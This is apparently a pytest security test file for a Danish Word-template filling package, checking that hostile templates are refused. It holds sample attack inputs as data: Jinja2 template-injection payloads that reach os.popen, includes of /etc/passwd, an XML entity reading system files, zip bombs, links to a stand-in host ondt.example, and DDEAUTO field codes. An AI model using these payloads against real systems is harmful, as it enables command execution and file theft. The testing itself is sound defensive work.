"""A template from somebody who means harm runs nothing, fetches nothing and fills nothing up."""

import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from jinja2.exceptions import SecurityError, UndefinedError

from fællesledelse.documents import check, filling, word
from fællesledelse.documents.filling import Fence
from fællesledelse.errors import CohortError

from .constructed import BIRGITTE
from .templates import WHOLE, field_code, made, part, repacked, split

CODE = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ navn.__class__.__mro__ }}",
    "{{ overskrifter.__init__.__globals__ }}",
    "{{ navn.format(x) }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ self._TemplateReference__context }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{% for x in 'a' * 10**10 %}x{% endfor %}",
    "{{ 9**9**9**9 }}",
    "{% include '/etc/passwd' %}",
    "{% import '/etc/passwd' as x %}",
    "{% extends '/etc/passwd' %}",
    "{% macro x() %}{{ x() }}{% endmacro %}{{ x() }}",
    "{%p raw %}",
    "{{r navn }}",
    "{% colspan navn %}",
]


@pytest.mark.parametrize("code", CODE)
def test_code_is_refused_where_it_stands(code: str) -> None:
    template = made(*WHOLE, code)
    found = [finding.message for finding in check(template)]
    assert found
    assert all(each.startswith("Afsnit 12: ") for each in found)
    with pytest.raises(CohortError):
        word(BIRGITTE, template)


def test_code_that_word_has_split_is_refused_too() -> None:
    assert check(made(*WHOLE, change=split("{{ ''.__class__ }}")))


@pytest.mark.parametrize("code", CODE[:-3])
def test_the_process_that_fills_in_refuses_code_that_slipped_past_the_check(code: str) -> None:
    with pytest.raises((SecurityError, UndefinedError)):
        Fence().from_string(code).render(navn="Bo", overskrifter=[])


def filled_by_itself(template: bytes, environment: dict[str, str] | None = None) -> "subprocess.CompletedProcess[bytes]":
    """The process that fills in, without the check before it."""
    import base64

    from fællesledelse.documents.word import fields

    asked = {"template": base64.b64encode(template).decode(), "fields": fields(BIRGITTE), "title": "t", "author": "a"}
    command = [sys.executable, "-P", "-X", "utf8", str(Path(filling.__file__))]
    told = json.dumps(asked).encode()
    return subprocess.run(command, input=told, capture_output=True, timeout=60, env=environment or {})


def test_code_in_attributes_and_properties_runs_neither() -> None:
    hidden = part("word/document.xml").replace(b"<w:body>", b"<w:body><w:p w:rsidR=\"{{ ''.__class__ }}\"/>")
    for template in (
        repacked({"word/document.xml": hidden}),
        repacked({"docProps/core.xml": part("docProps/core.xml").replace(b"Ledelsesgrundlag", b"{{ ''.__class__ }}")}),
    ):
        done = filled_by_itself(template)
        assert done.returncode != 0
        assert b"SecurityError" in done.stderr
        assert done.stdout == b""


def test_the_process_opens_no_file_and_has_bounds() -> None:
    script = (
        f"import sys; sys.path.insert(0, {str(Path(filling.__file__).parent)!r});"
        "import filling, resource; filling.fence_in();"
        "print(resource.getrlimit(resource.RLIMIT_AS)[0], resource.getrlimit(resource.RLIMIT_CPU)[0]);"
        "open('/etc/passwd')"
    )
    done = subprocess.run([sys.executable, "-X", "utf8", "-c", script], capture_output=True, encoding="utf-8", timeout=60)
    assert done.stdout.split() == [str(filling.MEMORY), str(filling.SECONDS)]
    assert "Too many open files" in done.stderr


def test_the_process_gets_nothing_of_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """The process is seen while it runs: its environment is what the kernel says of it."""
    monkeypatch.setenv("FAELLESLEDELSE_HEMMELIGHED", "KANARIEFUGL")
    seen: list[bytes] = []
    begin = subprocess.Popen.__init__

    def watched(self: "subprocess.Popen[bytes]", *args: object, **kwargs: object) -> None:
        begin(self, *args, **kwargs)  # type: ignore[arg-type]
        seen.append(Path(f"/proc/{self.pid}/environ").read_bytes())

    monkeypatch.setattr(subprocess.Popen, "__init__", watched)
    word(BIRGITTE, made(*WHOLE))
    assert len(seen) == 1
    assert b"KANARIEFUGL" not in seen[0]
    assert os.environ["FAELLESLEDELSE_HEMMELIGHED"] == "KANARIEFUGL"


def only(template: bytes) -> str:
    found = check(template)
    assert len(found) == 1, found
    with pytest.raises(CohortError):
        word(BIRGITTE, template)
    return found[0].message


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    assert "for stor" in only(repacked({"word/bombe.xml": b"<a>" + b"x" * 60_000_000 + b"</a>"}))
    assert "for stor" in only(repacked({f"word/{number}.xml": b"<a/>" for number in range(500)}))
    assert "højst 5 MB" in only(packed_with(os.urandom(6_000_000)))


def packed_with(data: bytes) -> bytes:
    return repacked({"word/media/billede.png": data})


def test_a_bomb_that_lies_of_its_size_is_refused() -> None:
    bomb = bytearray(repacked({"word/bombe.xml": b"<a>" + b"x" * 60_000_000 + b"</a>"}))
    real = (60_000_007).to_bytes(4, "little")
    assert bomb.count(real) >= 1
    assert "ikke et Word-dokument" in only(bytes(bomb.replace(real, (100).to_bytes(4, "little"))))


def test_entities_are_refused() -> None:
    laughs = b'<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
    declaration, rest = part("word/document.xml").split(b"?>", 1)
    assert "ikke skrevet af Word" in only(repacked({"word/document.xml": declaration + b"?>" + laughs + rest}))


RELATIONSHIP = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" {}/>'


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", 'Target="https://ondt.example/pixel.png" TargetMode="External"'),
        ("attachedTemplate", 'Target="https://ondt.example/makro.dotm" TargetMode="External"'),
        ("hyperlink", 'Target="https://ondt.example/" TargetMode="External"'),
        ("image", r'Target="file://///ondt.example/del" TargetMode="external"'),
        ("oleObject", 'Target="https://ondt.example/x"'),
    ],
)
def test_what_is_fetched_from_elsewhere_is_refused_and_named(kind: str, target: str) -> None:
    name = "word/_rels/document.xml.rels"
    more = part(name).replace(b"</Relationships>", RELATIONSHIP.format(kind, target).encode() + b"</Relationships>")
    assert "ondt.example" in only(repacked({name: more}))


@pytest.mark.parametrize(
    "name", ["word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml", "word/afchunk.htm"]
)
def test_macros_and_embedded_objects_are_refused_and_named(name: str) -> None:
    assert name in only(repacked({name: b"<x/>"}))


def test_a_macro_file_with_another_ending_is_refused() -> None:
    types = part("[Content_Types].xml").replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert "makro" in only(repacked({"[Content_Types].xml": types}))


@pytest.mark.parametrize(
    "code",
    ['INCLUDETEXT "/etc/passwd"', "DDEAUTO c:\\\\cmd.exe", 'INCLUDEPICTURE "https://ondt.example/x"', "MACROBUTTON X"],
)
def test_words_own_fields_that_fetch_or_run_are_refused_and_named(code: str) -> None:
    assert code.split()[0] in only(made(*WHOLE, change=field_code(code)))


def test_page_numbers_are_allowed() -> None:
    assert check(made(*WHOLE, change=field_code(" PAGE  \\* MERGEFORMAT "))) == []


@pytest.mark.parametrize("data", [b"", b"PK", b"ikke en fil", b"\xd0\xcf\x11\xe0" + b"\0" * 600, b"%PDF-1.7"])
def test_what_is_no_word_file_is_told(data: bytes) -> None:
    assert "ikke et Word-dokument" in only(data)


def test_a_zip_of_something_else_is_told() -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as file:
        file.writestr("hej.txt", "hej")
    assert "ikke et Word-dokument" in only(written.getvalue())


def test_a_damaged_file_is_told() -> None:
    assert "beskadiget" in only(repacked({"word/document.xml": b"<w:document"}))
